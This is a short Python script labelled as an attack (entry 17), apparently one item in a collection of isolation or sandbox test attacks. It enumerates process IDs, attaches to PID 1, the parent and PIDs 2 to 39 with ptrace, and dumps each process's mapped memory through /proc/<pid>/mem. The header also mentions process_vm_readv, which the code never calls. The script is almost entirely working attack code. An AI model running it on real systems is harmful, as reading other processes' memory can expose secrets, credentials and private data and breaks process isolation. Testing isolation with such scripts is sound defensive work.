# attack: lee la memoria de otros procesos con /proc, ptrace y process_vm_readv
# entry: 17

import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(sorted(p for p in os.listdir("/proc") if p.isdigit()))
for pid in [1, os.getppid(), *range(2, 40)]:
    if pid == os.getpid():
        continue
    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in open(f"/proc/{pid}/maps"):
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                memory.seek(start)
                print(memory.read(min(end - start, 1 << 16)))
    except OSError as error:
        print(pid, error)
